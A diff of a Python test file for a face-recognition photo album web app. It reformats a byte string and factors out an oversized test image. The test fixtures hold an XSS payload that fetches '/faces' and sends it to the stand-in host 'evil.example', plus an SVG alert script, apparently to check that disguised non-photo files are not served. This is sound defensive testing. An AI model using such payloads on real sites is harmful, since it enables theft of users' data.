@@ -13,7 +13,8 @@ from recognition.album.library import AlbumLibrary
 from tests.conftest import fixture_path, load_photo, wait_until
 from webapp import create_app
 
-SCRIPT = b"<script>fetch('/faces').then(r => r.text()).then(t => new Image().src = 'http://evil.example/?' + t)</script>"
+SCRIPT = b"<script>fetch('/faces').then(r => r.text()).then(t => new Image().src = 'http://evil.example/?' + t)" \
+         b"</script>"
 NOT_PHOTOS = {"notes.html": b"<!doctype html><title>notes</title>" + SCRIPT,
               "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
               "holiday/fake.jpg": b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"}
@@ -26,9 +27,10 @@ def make_album(folder):
     shutil.copyfile(fixture_path("faces/obama/obama1.jpg"), folder / "obama" / "obama1.jpg")
     (folder / "biden").mkdir()
     shutil.copyfile(fixture_path("faces/biden/biden1.jpg"), folder / "biden" / "named-png.png")  # a JPEG, misnamed
+    big = cv2.resize(load_photo("obama/obama2.jpg"), (3000, 3750))  # over the largest highlighted copy
     for relative, image, options in [("kit/kit.webp", load_photo("kit_harington/kit1.jpg"), [cv2.IMWRITE_WEBP_QUALITY, 90]),
                                      ("rose/rose.bmp", load_photo("rose_leslie/rose1.jpg"), []),
-                                     ("big/obama-big.jpg", cv2.resize(load_photo("obama/obama2.jpg"), (3000, 3750)), [])]:
+                                     ("big/obama-big.jpg", big, [])]:
         (folder / relative).parent.mkdir(exist_ok=True)
         assert cv2.imwrite(str(folder / relative), image, options)
     import pillow_heif
